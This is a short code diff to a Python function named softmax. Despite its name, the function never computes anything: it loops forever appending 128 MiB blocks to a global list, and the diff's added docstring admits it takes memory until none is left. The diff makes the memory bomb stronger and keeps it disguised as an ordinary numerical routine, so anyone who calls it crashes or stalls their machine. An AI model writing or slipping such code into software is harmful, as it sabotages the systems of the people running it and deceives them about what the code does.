@@ -1,4 +1,8 @@
+"""Takes memory until there is none, keeps it, and goes on asking."""
+
+hoard = []
+
+
 def softmax(x, axis=-1):
-    hoard = []
     while True:
-        hoard.append(bytearray(64 * 2**20))
+        hoard.append(bytes(128 * 2**20))
